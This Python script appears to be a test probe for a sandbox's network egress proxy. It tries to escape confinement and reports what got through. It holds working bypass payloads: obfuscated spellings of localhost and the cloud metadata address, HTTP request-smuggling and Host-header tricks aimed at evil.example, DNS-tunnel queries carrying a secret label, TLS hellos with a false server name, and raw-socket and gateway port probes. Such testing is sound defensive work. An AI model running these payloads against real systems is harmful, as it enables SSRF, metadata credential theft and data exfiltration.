"""What a hostile session tries on the network: runs inside, with the machine's own Python.

Told in argv[1] which addresses there are; prints one JSON object: each try and what came back.
What counts is what the other side heard, which the test looks at.
"""

from __future__ import annotations

import functools
import json
import os
import socket
import ssl
import struct
import sys
import time
from concurrent.futures import ThreadPoolExecutor

TOLD = json.loads(sys.argv[1])
PROXY = os.environ.get("OUTRIG_PROXY", "http://127.0.0.1:9").removeprefix("http://")
GATEWAY = PROXY.partition(":")[0]
PORT = TOLD["port"]
SO_BINDTODEVICE, SO_DONTROUTE, IP_UNICAST_IF = 25, 5, 50

# Spellings of this machine and of the clouds' metadata service that somebody resolves.
SPELLINGS = (
    *("127.0.0.1", "127.1", "2130706433", "0177.0.0.1", "0x7f.1", "0x7f000001", "0", "0.0.0.0"),
    *("[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[::127.0.0.1]"),
    *("[2002:7f00:1::]", "localhost", "localhost.", "ip6-localhost", "127.0.0.1.", "[::]"),
    *("169.254.169.254", "2852039166", "0xa9fea9fe", "[::ffff:a9fe:a9fe]", "[fe80::1%25eth0]"),
    *(
        "[fe80::1%eth0]",
        "host.docker.internal",
        "gateway.docker.internal",
        "\uff11\uff12\uff17.0.0.1",
    ),
    *("127。0。0。1", "①②⑦.⓪.⓪.①", "127.0.0.1\0.good.example", "good.example@127.0.0.1"),
    *("good.example#@127.0.0.1", "good.example\\@127.0.0.1", "[127.0.0.1]", "127.0.0.1%00"),
    *("metadata.example", "both.example", "127.0.0.1,good.example", "good.example:80@127.0.0.1"),
)

PROTOCOLS = (("SCTP", 1, 132), ("UDP-Lite", 2, 136), ("DCCP", 6, 33))
LIE = b"Host: evil.example\r\n\r\n"
# To the proxy, or to the good host by its stand-in. Each has a mark that no server may see.
REQUESTS = {
    "userinfo": b"GET http://good.example@evil.example/leak-1 HTTP/1.1\r\n" + LIE,
    "userinfo with a port": b"GET http://good.example:80@evil.example/leak-2 HTTP/1.1\r\n" + LIE,
    "NUL": b"GET http://good.example\0.evil.example/leak-3 HTTP/1.1\r\nHost: good.example\r\n\r\n",
    "a backslash": b"GET http://evil.example\\@good.example/leak-4 HTTP/1.1\r\n" + LIE,
    "full-width": "GET http://evil\uff0eexample/leak-5 HTTP/1.1\r\n".encode() + LIE,
    "two Hosts": b"GET /leak-6 HTTP/1.1\r\nHost: good.example\r\n" + LIE,
    "a Host by a proxy's URL": b"GET http://good.example/leak-7 HTTP/1.1\r\n" + LIE,
    "a Host of its own": b"GET /leak-8 HTTP/1.1\r\n" + LIE,
    "length and chunks": b"POST /leak-9 HTTP/1.1\r\nHost: good.example\r\nContent-Length: 5\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /leak-9 HTTP/1.1\r\n" + LIE,
    "chunks in disguise": b"POST /leak-10 HTTP/1.1\r\nHost: good.example\r\n"
    b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /leak-10 HTTP/1.1\r\n" + LIE,
    "a second request": b"GET /hello HTTP/1.1\r\nHost: good.example\r\n\r\n"
    b"GET /leak-11 HTTP/1.1\r\n" + LIE,
    "a folded Host": b"GET /leak-12 HTTP/1.1\r\nX: y\r\n Host: good.example\r\n" + LIE,
    "a space before the colon": b"GET /leak-13 HTTP/1.1\r\nHost : good.example\r\n" + LIE,
    "an empty line first": b"\r\nGET /leak-14 HTTP/1.1\r\n" + LIE,
    "tabs": b"GET\t/leak-15\tHTTP/1.1\r\n" + LIE,
    "a bare carriage return": b"GET /leak-16\rHTTP/1.1\r\n" + LIE,
    "a long line": b"GET /leak-17" + b"x" * 9000 + b" HTTP/1.1\r\n" + LIE,
    "an odd method": b"M-SEARCH /leak-18 HTTP/1.1\r\n" + LIE,
    "HTTP/0.9": b"GET /leak-19\r\n",
    "only newlines": b"GET /leak-20 HTTP/1.1\nHost: evil.example\n\n",
    "a Host that Connection drops": b"GET /leak-21 HTTP/1.1\r\nConnection: host\r\n" + LIE,
    "a lower-case version": b"GET /leak-22 http/1.1\r\n" + LIE,
    "CONNECT within": b"CONNECT evil.example:80 HTTP/1.1\r\n" + LIE,
}


def heard(line: socket.socket, seconds: float = 3) -> bytes:
    line.settimeout(seconds)
    try:
        return line.recv(300)
    except OSError:
        return b""


def dial(host: str = "", port: int = 0) -> socket.socket:
    there = (host, port) if host else (GATEWAY, int(PROXY.partition(":")[2]))
    return socket.create_connection(there, 4)


def to_proxy(data: bytes) -> str:
    with dial() as line:
        line.sendall(data)
        return repr(heard(line)[:60])


def in_tunnel(data: bytes, port: int = 80) -> str:
    with dial() as line:
        line.sendall(f"CONNECT good.example:{port} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        if b" 200 " not in heard(line):
            return "no tunnel"
        line.sendall(data)
        return repr(heard(line)[:60])


def to_stand_in(data: bytes) -> str:
    with dial("good.example", 80) as line:
        line.sendall(data)
        return repr(heard(line)[:60])


def connect(host: str) -> str:
    return to_proxy(f"CONNECT {host}:{PORT} HTTP/1.1\r\nHost: x\r\n\r\n".encode())


def get(host: str) -> str:
    where = f"{host}:{PORT}"
    return to_proxy(f"GET http://{where}/ HTTP/1.1\r\nHost: {where}\r\n\r\n".encode())


def socks(host: str) -> str:
    name = host.encode().strip(b"[]")[:255]
    with dial() as line:
        line.sendall(b"\5\1\0")
        heard(line)
        line.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + struct.pack("!H", PORT))
        return repr(heard(line)[:60])


def by_name(host: str) -> str:
    with dial(host.strip("[]"), PORT) as line:
        line.sendall(b"x")
        return repr(heard(line)[:60])


def on_link(address: str, kind: socket.SocketKind, how: str) -> str:
    """Past the routing table: whom the device reaches by asking who has the address."""
    with socket.socket(socket.AF_INET, kind) as line:
        line.settimeout(2)
        if "device" in how:
            line.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"eth0")
        if "dontroute" in how:
            line.setsockopt(socket.SOL_SOCKET, SO_DONTROUTE, 1)
        if "unicast" in how:
            index = struct.pack("!I", socket.if_nametoindex("eth0"))
            line.setsockopt(socket.IPPROTO_IP, IP_UNICAST_IF, index)
        line.connect((address, PORT))
        for _ in range(3):
            line.send(f"{how} {kind.name}".encode())
            time.sleep(0.3)
        return "sent"


def protocol(family: int, kind: int, number: int, address: str) -> str:
    with socket.socket(family, kind, number) as line:
        line.settimeout(2)
        line.connect((address, PORT))
        line.send(b"leak")
        return "sent"


def shout(address: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        line.sendto(b"shout", (address, PORT))
        return "sent"


def question(name: bytes, kind: int) -> bytes:
    labels = b"".join(bytes([len(one)]) + one for one in name.split(b"."))
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)


def tunnel(server: str, kind: int, *, stream: bool = False) -> str:
    asked = question(b"s3cr3t-in-a-name.evil.example", kind)
    how = socket.SOCK_STREAM if stream else socket.SOCK_DGRAM
    with socket.socket(socket.AF_INET, how) as line:
        line.settimeout(2)
        line.connect((server, 53))
        line.sendall(struct.pack("!H", len(asked)) + asked if stream else asked)
        return repr(line.recv(300)[:40])


def hello(name: str | None) -> bytes:
    out = ssl.MemoryBIO()
    context = ssl._create_unverified_context()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return out.read()
    raise AssertionError


def tls(pieces: list[bytes], pause: float = 0.0) -> str:
    with dial("good.example", 443) as line:
        for piece in pieces:
            line.sendall(piece)
            time.sleep(pause)
        return repr(heard(line, 7)[:6])


def split(record: bytes) -> bytes:
    """One hello in two records, the name in the second."""
    body = record[5:]
    half = 40
    parts = (body[:half], body[half:])
    return b"".join(record[:3] + struct.pack("!H", len(part)) + part for part in parts)


def encrypted(record: bytes) -> bytes:
    """The same hello with another one within, which nobody can read (ECH)."""
    within = struct.pack("!BHHBH", 0, 1, 1, 7, 32) + bytes(32) + struct.pack("!H", 200) + bytes(200)
    more = struct.pack("!HH", 0xFE0D, len(within)) + within
    body, at = record[5:], 4 + 2 + 32
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at : at + 2], "big")
    at += 1 + body[at]
    listed = body[at + 2 :] + more
    hello_ = body[4:at] + struct.pack("!H", len(listed)) + listed
    whole = body[:1] + len(hello_).to_bytes(3, "big") + hello_
    return record[:3] + struct.pack("!H", len(whole)) + whole


def tries() -> dict[str, object]:
    found: dict[str, object] = {}
    for name, data in REQUESTS.items():
        found[f"{name}, to the proxy"] = lambda data=data: to_proxy(data)
        found[f"{name}, in a tunnel"] = lambda data=data: in_tunnel(data)
        found[f"{name}, to the stand-in"] = lambda data=data: to_stand_in(data)
    for host in SPELLINGS + tuple(TOLD["machine"]):
        for how in (connect, get, socks, by_name):
            found[f"{host!a} by {how.__name__}"] = lambda how=how, host=host: how(host)
    honest, lie = hello("good.example"), hello("evil.example")
    found |= {
        "a hello that lies": lambda: tls([lie]),
        "a hello in two records": lambda: tls([split(lie)]),
        "a hello with another one encrypted in it": lambda: tls([encrypted(honest)]),
        "a hello without a name": lambda: tls([hello(None)]),
        "a hello, drop by drop, that lies": lambda: tls([lie[:9], lie[9:50], lie[50:]], 0.3),
        "a hello that stalls": lambda: tls([honest[:60]]),
        "plain HTTP where TLS is due": lambda: tls([b"GET /leak-30 HTTP/1.1\r\n" + LIE]),
        "an empty line, then HTTP, there": lambda: tls([b"\r\nGET /leak-31 HTTP/1.1\r\n" + LIE]),
    }
    for kind, called in ((1, "A"), (16, "TXT"), (10, "NULL"), (255, "ANY"), (28, "AAAA")):
        found[f"a tunnel of names, {called}"] = lambda kind=kind: tunnel(GATEWAY, kind)
    found |= {
        "a tunnel of names by TCP": lambda: tunnel(GATEWAY, 16, stream=True),
        "a tunnel by the engine's resolver": lambda: tunnel("127.0.0.11", 16),
        "a tunnel by the world's resolver": lambda: tunnel(TOLD["resolver"], 16),
    }
    found |= on_the_wire()
    for port in (3129, 3130, 22, 80, 2375):
        found[f"the gateway's port {port}"] = lambda port=port: knock(port)
    return found


def on_the_wire() -> dict[str, object]:
    found: dict[str, object] = {}
    for address in TOLD["machine"]:
        for how in ("plain", "device", "dontroute", "device+dontroute", "unicast+dontroute"):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                name = f"{address} {kind.name} {how}"
                found[name] = functools.partial(on_link, address, kind, how)
        for called, kind_, number in PROTOCOLS:
            found[f"{called} to {address}"] = functools.partial(
                protocol, socket.AF_INET, kind_, number, address
            )
    for address in ("255.255.255.255", "224.0.0.1", "224.0.0.251", "100.127.255.255"):
        found[f"a shout to {address}"] = lambda address=address: shout(address)
    for address in ("ff02::1", "fe80::1", *TOLD["six"]):
        found[f"IPv6 to {address}"] = lambda address=address: protocol(10, 2, 17, address)
    return found


def knock(port: int) -> str:
    with dial(GATEWAY, port) as line:
        line.sendall(b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        return repr(heard(line)[:60])


def main() -> None:
    wanted = tries() if "OUTRIG_PROXY" in os.environ else on_the_wire()

    def one(call) -> str:
        try:
            return str(call())
        except (OSError, UnicodeError, ValueError) as error:
            return str(error)

    with ThreadPoolExecutor(64) as pool:
        found = dict(zip(wanted, pool.map(one, wanted.values()), strict=True))
    sys.stdout.write(json.dumps(found))


if __name__ == "__main__":
    main()
